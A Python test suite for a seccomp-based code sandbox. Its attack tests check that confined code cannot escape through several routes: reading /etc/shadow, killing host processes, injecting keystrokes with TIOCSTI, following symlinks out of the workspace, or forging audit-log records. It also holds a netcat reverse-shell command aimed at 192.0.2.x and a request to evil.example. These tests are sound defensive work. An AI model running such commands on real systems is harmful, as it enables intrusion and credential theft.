# SPDX-License-Identifier: MIT
"""A1 to A14: attacks that VAREK does not test, and ordinary code that it breaks. Each test looks for the effect on the
host, not for an error message."""
import os
import pty
import resource
import select
import socket
import subprocess
import sys
import threading
import time

import cordon
from cordon import varek
from support import BINARY, TIER, until
from varekcase import PYTHON, Case

def own(comm):
    """A process name that no other test uses."""
    return f"{comm[:7]}-{os.getpid()}"


def named(comm):
    """The processes of the host with that name."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/comm") as f:
                if f.read().strip() == comm:
                    found.append(pid)
        except OSError:
            pass
    return found

NAME = "import ctypes\nctypes.CDLL(None).prctl(15, %r, 0, 0, 0)\n"
TRY = "def t(f):\n try: f(); print('yes')\n except Exception as e: print('no')\n"

class Attacks(Case):
    def test_a01_write(self):
        """A1: code cannot write files of the host"""
        profile = self.path("open", "profile")
        with open(profile, "w") as f:
            f.write("mine\n")
        os.chmod(profile, 0o666)
        self.says(TRY + f"t(lambda: open({self.canary!r}, 'w'))\nt(lambda: open({profile!r}, 'a').write('evil'))", "no\nno\n")
        with open(profile) as f:
            self.assertEqual(f.read(), "mine\n")
        self.assertEqual(os.listdir(self.path("open")), ["profile"])

    def test_a02_read(self):
        """A2: code cannot read files of the host, nor see its processes and mounts"""
        secret = self.path("open", "secret")
        with open(secret, "w") as f:
            f.write("s3cret")
        code = TRY + f"for p in ('/etc/shadow', '/root/.bashrc', {secret!r}, '/proc/{os.getpid()}/environ'):\n t(lambda: open(p).read())\n"
        code += "import os\nprint(len([p for p in os.listdir('/proc') if p.isdigit()]) < 6, open('/proc/self/mounts').read().count(%r))" % self.dir
        self.says(code, "no\n" * 4 + "True 0\n")

    def test_a03_kill(self):
        """A3: code cannot kill a process of the host"""
        victim = subprocess.Popen(["sleep", "100"])
        try:
            self.says(TRY + f"import os\nt(lambda: os.kill({victim.pid}, 9))\nt(lambda: os.kill({os.getpid()}, 9))\n"
                      "try: os.kill(-1, 0)\nexcept OSError: pass", "no\nno\n")
            self.assertIs(victim.poll(), None)
        finally:
            victim.kill()
            victim.wait()

    def test_a04_terminal(self):
        """A4: code cannot write to or type into the terminal of the caller"""
        code = (TRY + "import fcntl, termios\nt(lambda: open('/dev/tty', 'w').write('FAKE PROMPT'))\n"
                "for fd in range(8): t(lambda: fcntl.ioctl(fd, termios.TIOCSTI, b'x'))")
        script = (f"from cordon import varek\nb = varek.SeccompBpfBackend(binary={BINARY!r}, tier={TIER!r}, state={self.path('state')!r}, rules=[{self.path('rules')!r}])\n"
                  f"o = b.execute(varek.ExecutionPayload({PYTHON!r}, {code!r}), varek.default_python_policy(frozenset({{{PYTHON!r}}})))\n"
                  "import sys\nsys.stdout.write('<%d %s>' % (o.exit_code, o.stdout.decode().split()))")
        pid, master = pty.fork()
        if pid == 0:
            os.environ["PYTHONPATH"] = os.pathsep.join(sys.path)
            os.execv(sys.executable, [sys.executable, "-B", "-c", script])
        seen, end = b"", time.monotonic() + 60
        while time.monotonic() < end and select.select([master], [], [], 60)[0]:
            try:
                data = os.read(master, 4096)
            except OSError:
                break
            if not data:
                break
            seen += data
        os.close(master)
        os.waitpid(pid, 0)
        self.assertEqual(seen.decode(), "<0 %s>" % (["no"] * 9), seen)

    def test_a05_clock(self):
        """A5: a child that keeps the output open, and a daemon, end with the time limit"""
        begun = time.monotonic()
        o = self.run_code(NAME % own("a5holds").encode() + "import os, time\nfor i in range(2):\n if os.fork() == 0:\n  os.setsid()\n  time.sleep(60)\ntime.sleep(60)", wall_clock_timeout_s=1.0)
        self.assertLess(time.monotonic() - begun, 8)
        self.assertEqual((o.timed_out, named(own("a5holds"))), (True, []))
        begun = time.monotonic()
        self.says(NAME % own("a5orphan").encode() + "import os, time\nif os.fork() == 0:\n os.setsid()\n time.sleep(60)\nelse: print('done', flush=True); os._exit(0)", "done\n", wall_clock_timeout_s=20.0)
        self.assertLess(time.monotonic() - begun, 10)
        self.assertEqual(named(own("a5orphan")), [])

    def test_a05_output(self):
        """A5: 400 MB of output do not fill the memory of this process; code cannot get 1.5 GB"""
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        o = self.run_code("import os\nb = b'x' * 1000000\nfor i in range(400): os.write(1, b)", wall_clock_timeout_s=60.0, cpu_quota_pct=200)
        grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
        self.assertTrue(o.truncated)
        self.assertLessEqual(len(o.stdout), 16 << 20)
        self.assertLess(grown, 200 << 10)
        o = self.run_code("x = bytearray(1500 << 20)\nfor i in range(0, len(x), 4096): x[i] = 1\nprint('all')")
        self.assertNotIn(b"all", o.stdout)

    def listener(self, family, kind, address):
        s = socket.socket(family, kind)
        self.addCleanup(s.close)
        s.bind(address)
        if kind == socket.SOCK_STREAM:
            s.listen()
        s.settimeout(0.2)
        return s

    def silent(self, *listeners):
        for s in listeners:
            with self.assertRaises(OSError):
                s.accept() if s.type == socket.SOCK_STREAM else s.recv(1)

    def test_a06_unix(self):
        """A6: code cannot reach sockets of the host, with and without a network"""
        path, abstract = self.path("open", "s"), "\0cordon-a6-%d" % os.getpid()
        named_one = self.listener(socket.AF_UNIX, socket.SOCK_STREAM, path)
        os.chmod(path, 0o777)
        other = self.listener(socket.AF_UNIX, socket.SOCK_STREAM, abstract)
        code = TRY + f"import socket\nfor a in ({path!r}, {abstract!r}):\n s = socket.socket(socket.AF_UNIX)\n t(lambda: s.connect(a))"
        for network in (False, True):
            self.says(code, "no\nno\n", network=network)
        self.silent(named_one, other)

    def test_a07_paths(self):
        """A7: neither .. nor a link leads out of the workspace"""
        os.mkdir(self.path("w"))
        os.symlink("/etc/shadow", self.path("w", "link"))
        os.symlink("..", self.path("w", "up"))
        with open(self.path("secret"), "w") as f:
            f.write("s3cret")
        code = TRY + "for p in ('link', 'up/secret', '../secret', '../../../../etc/shadow', 'up/../etc/shadow'): t(lambda: open(p).read())"
        r = self.client(rules=[self.path("rules")]).run(code, workspace=self.path("w"), mode="ro")
        self.assertEqual((r.text, r.exit_code), ("no\n" * 5, 0), r.errors)

    def test_a08_datagrams(self):
        """A8: code can send neither a datagram nor a TCP fast open"""
        udp = self.listener(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0))
        tcp = self.listener(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0))
        code = (TRY + f"import socket\ns = lambda k: socket.socket(socket.AF_INET, k)\n"
                f"t(lambda: s(socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', {udp.getsockname()[1]})))\n"
                f"t(lambda: s(socket.SOCK_STREAM).sendto(b'x', 0x20000000, ('127.0.0.1', {tcp.getsockname()[1]})))")
        self.run_code(code)
        self.silent(udp, tcp)

    def test_a09_race(self):
        """A9: a forked child cannot start a program, however often and from however many threads it tries"""
        code = ("import os, threading\ndef go():\n for i in range(10):\n  p = os.fork()\n  if p == 0:\n   try: os.execv('/usr/bin/python3', ['python3', '-c', 'print(\"RAN\")'])\n"
                "   finally: os._exit(7)\n  assert os.waitstatus_to_exitcode(os.waitpid(p, 0)[1]) == 7\n"
                "ts = [threading.Thread(target=go) for i in range(5)]\n[t.start() for t in ts]\n[t.join() for t in ts]\nprint('done')")
        o = self.says(code, "done\n")
        self.assertGreater(sum(d.count for d in o.denials if d.call == "execve"), 40)

    def test_a10_supervisor(self):
        """A10: code that kills its parent processes dies with them"""
        o = self.run_code(NAME % own("a10lives").encode() + "import os, signal\nfor p in (os.getppid(), 1, 0):\n for s in (9, 15, 19):\n  if p or s != 9:\n   try: p and os.kill(p, s)\n   except OSError: pass\nprint('on')")
        self.assertIn(o.exit_code, (0, -9, 1))
        self.assertEqual(named(own("a10lives")), [])
        self.assertTrue(cordon.Cordon(BINARY, state=self.path("state")).audit_verify().good)

    def test_a11_log(self):
        """A11: a name cannot forge a record"""
        name = '/x"}\n{"event":"result","status":"exited","verdict":"allow","kind":"result"}'
        o = self.says(f"import os\ntry: os.execv({name!r}, ['x'])\nexcept OSError: print('no')", "no\n")
        self.assertEqual([d.target for d in o.denials if d.call == "execve"], [name])
        log = cordon.Cordon(BINARY, state=self.path("state"))
        self.assertTrue(log.audit_verify().good)
        self.assertTrue(all(r.kind and r.hash for r in log.audit_tail(100)))

    def test_a12_again(self):
        """A12: refused code is refused again in other words; a host name in a path is not a host"""
        backend = varek.SeccompBpfBackend(binary=BINARY, tier=TIER, state=self.path("state"))
        for i in range(8):
            with self.assertRaises(varek.KineticIntercept):
                backend.execute(varek.ExecutionPayload(PYTHON, f"import os\nx{i} = {i}\nos.system('nc -e /bin/bash 192.0.2.{i} 44{i}')", (str(i),)), self.policy())
        self.says(TRY + "import urllib.request\nt(lambda: urllib.request.urlopen('https://evil.example/a.internal.example/x', timeout=3))", "no\n")

    def test_a13_ordinary(self):
        """A13: threads, asyncio, temporary files, directories, processes and numbers work"""
        code = '''
import asyncio, multiprocessing, os, tempfile, threading, sqlite3, socket
t = threading.Thread(target=print, args=("thread",)); t.start(); t.join()
async def main():
    await asyncio.sleep(0); print("asyncio")
asyncio.run(main())
with tempfile.TemporaryDirectory() as d:
    os.mkdir(d + "/a"); open(d + "/a/b", "w").close(); os.rename(d + "/a/b", d + "/c"); os.unlink(d + "/c")
    with tempfile.NamedTemporaryFile() as f: f.write(b"x")
print("files")
def child(): print("process", flush=True)
p = multiprocessing.get_context("fork").Process(target=child); p.start(); p.join()
sqlite3.connect(":memory:").execute("select 1"); print("sqlite")
a, b = socket.socketpair(); a.send(b"x"); print("pair", b.recv(1).decode())
'''
        o = self.says(code, "thread\nasyncio\nfiles\nprocess\nsqlite\npair x\n")
        self.assertEqual(o.denials, ())

    def test_a14_programs(self):
        """A14: code can start a listed program, and no other"""
        code = ("import subprocess, tempfile\ntempfile.mkdtemp()\nprint(subprocess.run(['/usr/bin/id', '-u'], capture_output=True, text=True).stdout.strip())\n"
                "try: subprocess.run(['/usr/bin/touch', '/tmp/x'])\nexcept OSError: print('no')")
        r = self.client(rules=[self.path("rules")]).run(code, exec=["/usr/bin/id"])
        self.assertEqual((r.text, r.exit_code), ("1000\nno\n", 0), r.errors)

class Bugs(Case):
    def test_payload(self):
        """3.3: 200 KB of code, __future__ imports and line numbers are right, and no process list shows the code"""
        o = self.run_code("from __future__ import annotations\n# " + "x" * 200000 + "\nprint('large')\nraise KeyError(1)")
        self.assertEqual(o.stdout, b"large\n")
        self.assertIn(b"line 4", o.stderr)
        seen = []

        def look():
            until(lambda: named(own("s33secret")))
            for pid in filter(str.isdigit, os.listdir("/proc")):
                try:
                    with open(f"/proc/{pid}/cmdline", "rb") as f:
                        seen.append(f.read())
                except OSError:
                    pass
        looker = threading.Thread(target=look)
        looker.start()
        self.run_code(NAME % own("s33secret").encode() + "import time\nx = 'm4rked'\ntime.sleep(1.5)")
        looker.join()
        self.assertTrue(seen)
        self.assertEqual([s for s in seen if b"m4rked" in s], [])

    def test_failure(self):
        """3.3: a box that cannot be set up is an IsolationError and leaves nothing behind"""
        before = sorted(os.listdir("/proc/self/fd"))
        for words in ("kill -9 $$", "exit 3", "echo nonsense"):
            backend = varek.SeccompBpfBackend(binary=self.script(words))
            with self.assertRaises(varek.IsolationError):
                backend.execute(varek.ExecutionPayload(PYTHON, "print(1)"), self.policy())
        self.assertEqual(sorted(os.listdir("/proc/self/fd")), before)

